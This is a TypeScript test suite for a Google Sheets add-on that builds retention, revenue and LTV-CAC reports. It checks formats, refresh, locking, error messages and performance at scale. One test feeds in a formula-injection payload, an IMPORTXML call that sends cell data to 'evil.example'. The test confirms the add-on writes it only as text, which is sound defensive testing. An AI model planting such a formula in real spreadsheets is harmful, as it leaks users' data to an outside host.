/**
 * The add-on as Apps Script runs it: dist/Code.js in a fresh global scope with fake services, driven
 * through the global functions the sidebar and the menu call. Report contents, formats and live
 * formulas; hostile ids as text; call counts that do not grow with the rows; and the cost of a
 * 200,000-row build against Apps Script's 6-minute limit.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { distDir, loadBundle } from "../helpers/bundle";
import { totalCalls } from "../helpers/fake";
import { addonServices, FakeLocks, FakeSpreadsheet, type SheetModel, type Value } from "../helpers/sheets";
import { sampleSpreadsheet } from "../helpers/sidebar-host";

const CHANNELS = ["Paid search", "Paid social", "Email", "Organic"];

/**
 * `n` transactions over the same 15 months, with every cohort × channel present whatever `n` (≥ 96),
 * so reports of 100 and 100,000 rows have the same shape.
 */
function transactions(n: number): Value[][] {
  const k = Math.floor(n / 2);
  const rows: Value[][] = [["Customer ID", "Order date", "Amount", "Channel"]];
  for (let i = 0; i < n; i++) {
    const c = i % k;
    const repeat = Math.floor(i / k);
    const month = (c % 12) + repeat * 3;
    rows.push([
      `C${String(c).padStart(6, "0")}`,
      new Date(Date.UTC(2024, month, 1 + (i % 28))),
      20 + (i % 13),
      CHANNELS[Math.floor(c / 12) % 4],
    ]);
  }
  return rows;
}

function spreadsheetWith(rows: Value[][]) {
  const book = new FakeSpreadsheet({ timeZone: "UTC" });
  const orders = book.addSheet("Orders", rows);
  for (let r = 2; r <= rows.length; r++) orders.prop("numberFormat").set(r, 3, '"€"#,##0.00');
  const spend = book.addSheet("Spend", [
    ["Month", "Spend", "Channel"],
    ...Array.from(
      { length: 12 },
      (_, m) => [new Date(Date.UTC(2024, m, 1)), 500 + m * 10, "Paid search"] as Value[],
    ),
  ]);
  book.select(orders, "B2");
  return { book, orders, spend };
}

function request(orders: SheetModel, rows: number, extra: Record<string, unknown> = {}) {
  return {
    source: { sheetId: orders.id, range: `A1:D${rows}` },
    mapping: { customerId: 0, date: 1, amount: 2, segment: 3 },
    period: "month",
    observationEnd: "2025-03-31",
    margin: "40",
    spend: "Spend!A1:C13",
    sheets: ["retention", "revenue", "ltv-cac", "summary"],
    ...extra,
  };
}

function formulasOf(sheet: SheetModel): string[] {
  const out: string[] = [];
  for (const row of sheet.formulas.rows) for (const f of row ?? []) if (f) out.push(f);
  return out;
}

describe("the add-on through its globals", () => {
  it("reads the selection: table, headers, guessed mapping and the user's language", () => {
    const { book } = spreadsheetWith(transactions(200));
    const script = loadBundle(addonServices(book, { userLocale: "ru_RU" }));
    const info = script.getSelectionInfo();
    expect(info).toMatchObject({
      ok: true,
      language: "ru",
      table: { sheetName: "Orders", range: "A1:D201", label: "Orders!A1:D201", rows: 201 },
      headers: ["Customer ID", "Order date", "Amount", "Channel"],
      mapping: { customerId: 0, date: 1, amount: 2, segment: 3 },
    });
    expect(info.preview[0]).toEqual(["C000000", "2024-01-01", "20", "Paid search"]);
  });

  it("starts the form from the settings of the last report built from the same sheet", () => {
    const rows = transactions(200);
    const { book, orders } = spreadsheetWith(rows);
    const script = loadBundle(addonServices(book));
    expect(script.getSelectionInfo().previous).toBeUndefined();
    script.buildReport(request(orders, rows.length, { period: "quarter", sheets: ["retention", "summary"] }));
    book.select(orders, "A1");
    expect(script.getSelectionInfo().previous).toEqual({
      period: "quarter",
      observationEnd: "2025-03-31",
      calibrationEnd: null,
      marginPercent: "40",
      spend: "Spend!A1:C13",
      campaignMap: "",
      skipFirstPeriod: false,
      sheets: ["retention", "summary"],
      language: "en",
      dateWindow: null,
      termColumn: null,
    });
  });

  it("splits the Forecast check at the calibration end typed in the sidebar, and Refresh splits there again", () => {
    const rows = transactions(400);
    const { book, orders } = spreadsheetWith(rows);
    const script = loadBundle(addonServices(book));
    const sheets = ["forecast-check", "predicted-clv"];
    const split = "2024-09-30";
    expect(script.buildReport(request(orders, rows.length, { sheets, calibrationEnd: split })).ok).toBe(true);
    const note = () => book.sheet("Forecast check").values.get(2, 1) as string;
    expect(note()).toMatch(
      /^Fitted on purchases to 2024-09-30, then compared with what the customers first seen by then bought to 2025-03-31\./,
    );
    // Predicted CLV names the model of the same back-test.
    expect(book.sheet("Predicted CLV").values.get(2, 1)).toMatch(/Purchase model: (BG|MBG|Pareto)\/NBD/);
    book.select(orders, "A1");
    expect(script.getSelectionInfo().previous?.calibrationEnd).toBe(split);
    expect(script.refreshReports()).toMatchObject({ ok: true, failed: [] });
    expect(note()).toContain(`to ${split}, then`);
    // Blank: halfway, said so.
    script.buildReport(request(orders, rows.length, { sheets, calibrationEnd: "" }));
    expect(note()).toContain("(by default halfway through the data)");
    expect(
      script.buildReport(request(orders, rows.length, { sheets, calibrationEnd: "2025-06-30" })),
    ).toMatchObject({
      ok: false,
      code: "input",
      problems: { calibrationEnd: expect.stringContaining("2025-03-31") },
    });
  });

  it("offers the Subscription sheet for payments with a term column, found by header or picked", () => {
    // Two customers on monthly and yearly plans; the yearly payment covers twelve months.
    const payments = (header: string): Value[][] => [
      ["Customer ID", "Order date", "Amount", "Channel", header],
      ["A", new Date(Date.UTC(2024, 0, 5)), 10, "Email", 1],
      ["A", new Date(Date.UTC(2024, 1, 5)), 10, "Email", 1],
      ["B", new Date(Date.UTC(2024, 0, 9)), 120, "Email", 12],
      ["A", new Date(Date.UTC(2024, 2, 5)), 10, "Email", 1],
    ];
    const found = spreadsheetWith(payments("Billing period"));
    expect(loadBundle(addonServices(found.book)).getSelectionInfo().termColumn).toBe(4);

    // A header the add-on does not know: the user picks the column in the sidebar.
    const { book, orders } = spreadsheetWith(payments("Plan"));
    const script = loadBundle(addonServices(book));
    expect(script.getSelectionInfo().termColumn).toBeUndefined();
    const built = script.buildReport({
      ...request(orders, 5, { sheets: ["summary", "subscription"], termColumn: 4 }),
      source: { sheetId: orders.id, range: "A1:E5" },
      observationEnd: "",
      spend: "",
    });
    expect(built.ok).toBe(true);
    const mrr = book.sheet("Subscription (MRR)");
    const cells = mrr.values.rows.flat().filter((v) => v !== undefined);
    // MRR in March: A's 10 plus B's 120 / 12 = 20 (without the term column B's 120 falls in January).
    expect(cells).toContain(20);
    script.buildReport({
      ...request(orders, 5, { sheets: ["summary", "subscription"], termColumn: 4 }),
      source: { sheetId: orders.id, range: "A1:E5" },
      observationEnd: "",
      spend: "",
    });
    book.select(orders, "A1");
    expect(script.getSelectionInfo().previous?.termColumn).toBe(4);
  });

  it("builds the report: every sheet, formats, frozen headers, color scales, charts, live formulas", () => {
    const rows = transactions(2_000);
    const { book, orders, spend } = spreadsheetWith(rows);
    const script = loadBundle(addonServices(book));
    const result = script.buildReport(request(orders, rows.length));
    expect(result.ok).toBe(true);
    expect(result.sheets.map((s: { name: string }) => s.name)).toEqual([
      "Retention",
      "Revenue & LTV",
      "LTV-CAC",
      "Summary",
    ]);
    expect(book.sheets.map((s) => s.name).slice(0, 5)).toEqual([
      "Orders",
      "Retention",
      "Revenue & LTV",
      "LTV-CAC",
      "Summary",
    ]);
    for (const name of ["Retention", "Revenue & LTV", "LTV-CAC", "Summary"]) {
      const sheet = book.sheet(name);
      expect(sheet.frozenRows, name).toBeGreaterThan(0);
      expect(sheet.metadata).toHaveLength(1);
    }
    const retention = book.sheet("Retention");
    expect(retention.rules.some((r) => r.gradient)).toBe(true);
    expect(retention.props.numberFormat.rows.flat()).toContain("0.0%");
    expect(book.sheet("Revenue & LTV").charts.length).toBeGreaterThan(0);
    const ltvCac = book.sheet("LTV-CAC");
    expect(formulasOf(ltvCac).length).toBeGreaterThan(0);
    expect(ltvCac.rules.some((r) => r.condition?.value === 3)).toBe(true);
    // Money in the source's currency.
    const formats = ltvCac.props.numberFormat.rows.flat().filter(Boolean) as string[];
    expect(formats.some((f) => f.includes("€"))).toBe(true);
    // Nothing but the report's own sheets was written.
    expect(orders.writes).toEqual([]);
    expect(spend.writes).toEqual([]);
    expect(book.writtenSheets()).toEqual(["Retention", "Revenue & LTV", "LTV-CAC", "Summary"]);
    // No NaN, Infinity or undefined ever reached a cell.
    for (const sheet of book.sheets) {
      for (const row of sheet.values.rows) {
        for (const v of row ?? []) if (typeof v === "number") expect(Number.isFinite(v)).toBe(true);
      }
    }
  });

  it("writes hostile ids and segments as the literal text they are", () => {
    const rows = transactions(200);
    const hostile = '=IMPORTXML("http://evil.example/steal?d="&A1,"//a")';
    for (let r = 1; r < rows.length; r++) if ((r - 1) % 100 < 12) rows[r][3] = hostile;
    rows[1][0] = hostile;
    const { book, orders } = spreadsheetWith(rows);
    const script = loadBundle(addonServices(book));
    const result = script.buildReport(request(orders, rows.length));
    expect(result.ok).toBe(true);
    const retention = book.sheet("Retention");
    const texts = retention.values.rows.flat().filter((v) => v === hostile);
    expect(texts.length).toBeGreaterThan(0);
    for (const sheet of book.sheets) for (const f of formulasOf(sheet)) expect(f).not.toContain("IMPORTXML");
  });

  it("refreshes every report for whoever clicks, keeping spend a colleague typed", () => {
    const rows = transactions(400);
    const { book, orders } = spreadsheetWith(rows);
    const script = loadBundle(addonServices(book, { user: "ann@example.com" }));
    script.buildReport(request(orders, rows.length));
    const ltvCac = book.sheet("LTV-CAC");
    const region = JSON.parse(ltvCac.metadata[0].value ?? "{}").written[0];
    const row = region.range.row + 2;
    ltvCac.values.set(row, region.range.column, 4321);
    const keyBefore = region.keyColumns.map((c: number) => ltvCac.value(row, c));

    const bob = loadBundle(addonServices(book, { user: "bob@example.com" }));
    const result = bob.refreshReports();
    expect(result).toMatchObject({ ok: true, failed: [] });
    expect(result.refreshed).toHaveLength(1);
    let found = 0;
    for (let r = region.range.row; r < region.range.row + region.range.rows; r++) {
      const key = region.keyColumns.map((c: number) => ltvCac.value(r, c));
      if (JSON.stringify(key) === JSON.stringify(keyBefore)) {
        expect(ltvCac.value(r, region.range.column)).toBe(4321);
        found++;
      }
    }
    expect(found).toBe(1);
    expect(orders.writes).toEqual([]);
  });

  it("tells the second of two colleagues to wait, and the menu's refresh says it too", () => {
    const rows = transactions(200);
    const { book, orders } = spreadsheetWith(rows);
    const locks = new FakeLocks();
    loadBundle(addonServices(book, { locks })).buildReport(request(orders, rows.length));
    locks.holder = "ann@example.com";
    const bob = loadBundle(addonServices(book, { locks, user: "bob@example.com" }));
    expect(bob.buildReport(request(orders, rows.length))).toEqual({
      ok: false,
      code: "busy",
      message:
        "Someone else is building a report in this spreadsheet right now. Wait a minute, then try again.",
    });
    bob.refreshReportsFromMenu();
    expect(book.ui.alerts).toEqual([
      "Someone else is building a report in this spreadsheet right now. Wait a minute, then try again.",
    ]);
  });

  it("records each step for the sidebar's progress, and clears it when done", () => {
    const rows = transactions(200);
    const { book, orders } = spreadsheetWith(rows);
    const steps: string[] = [];
    const properties = new (class extends Map<string, string> {
      override set(key: string, value: string) {
        if (key.startsWith("progress:")) steps.push(`${key} ${JSON.parse(value).step}`);
        return super.set(key, value);
      }
    })();
    const script = loadBundle(addonServices(book, { properties }));
    expect(script.buildReport(request(orders, rows.length), "run-1").ok).toBe(true);
    expect([...new Set(steps)]).toEqual([
      "progress:run-1 waiting",
      "progress:run-1 reading",
      "progress:run-1 computing",
      "progress:run-1 writing",
    ]);
    expect(properties.size).toBe(0);
    expect(script.getBuildProgress("run-1")).toBeNull();
  });

  it("names the column and row of bad data in plain words", () => {
    const rows = transactions(200);
    rows[7][1] = "not a date";
    const { book, orders } = spreadsheetWith(rows);
    const result = loadBundle(addonServices(book)).buildReport(request(orders, rows.length));
    expect(result.ok).toBe(false);
    expect(result.code).toBe("data");
    expect(result.message).toBe(
      "Transactions, column “\u2068Order date\u2069”, row 8: “\u2068not a date\u2069” is not a date such as 2024-03-14.",
    );
    expect(book.writtenSheets()).toEqual([]);
  });

  it("makes the same number of Spreadsheet service calls for 100 and 100,000 rows", () => {
    const count = (n: number) => {
      const rows = transactions(n);
      const { book, orders } = spreadsheetWith(rows);
      const script = loadBundle(addonServices(book));
      book.calls.clear();
      expect(script.buildReport(request(orders, rows.length)).ok).toBe(true);
      const calls = Object.fromEntries(book.calls);
      return {
        total:
          totalCalls(book.calls, "Spreadsheet") +
          totalCalls(book.calls, "Sheet") +
          totalCalls(book.calls, "Range"),
        calls,
      };
    };
    const small = count(100);
    const large = count(100_000);
    console.log(
      `Spreadsheet service calls for a report: ${small.total} at 100 rows, ${large.total} at 100,000 rows`,
    );
    expect(large.calls).toEqual(small.calls);
  });

  it("builds from 200,000 rows well within Apps Script's 6-minute limit (in the fakes)", () => {
    const rows = transactions(200_000);
    const { book, orders } = spreadsheetWith(rows);
    // The progress steps, timed: reading, computing, writing.
    const marks: [string, number][] = [];
    const properties = new (class extends Map<string, string> {
      override set(key: string, value: string) {
        const step = JSON.parse(value).step;
        if (marks.at(-1)?.[0] !== step) marks.push([step, performance.now()]);
        return super.set(key, value);
      }
    })();
    const script = loadBundle(addonServices(book, { properties }));
    const started = performance.now();
    const result = script.buildReport(request(orders, rows.length), "big");
    const ended = performance.now();
    expect(result.ok).toBe(true);
    const spans = marks.map(
      ([step, at], i) => `${step} ${(((marks[i + 1]?.[1] ?? ended) - at) / 1000).toFixed(2)} s`,
    );
    console.log(
      `200,000-row build in the fakes: ${((ended - started) / 1000).toFixed(1)} s (${spans.join(", ")})`,
    );
    expect((ended - started) / 1000).toBeLessThan(60);
  });

  it("opens the sidebar from the built HTML file", () => {
    const { book } = sampleSpreadsheet({ customers: 20 });
    const script = loadBundle(
      addonServices(book, { readFile: (name) => readFileSync(join(distDir, `${name}.html`), "utf8") }),
    );
    script.showSidebar();
    expect(book.ui.sidebars).toHaveLength(1);
  });
});
